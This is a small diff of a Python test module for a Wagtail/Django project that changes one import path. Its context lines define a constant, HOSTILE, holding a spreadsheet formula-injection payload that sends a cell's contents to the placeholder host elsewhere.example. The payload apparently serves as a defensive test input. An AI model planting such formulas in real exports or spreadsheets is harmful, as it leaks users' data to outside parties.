@@ -12,7 +12,7 @@ from wagtail.log_actions import log
 from wagtail.models import Page, Task, Workflow, WorkflowTask
 
 from tests import factories
-from tests.site.campaign.finding import page_at
+from tests.site.campaign.asking import page_at
 
 pytestmark = pytest.mark.django_db
 HOSTILE = """=HYPERLINK("https://elsewhere.example/?"&A1)"""
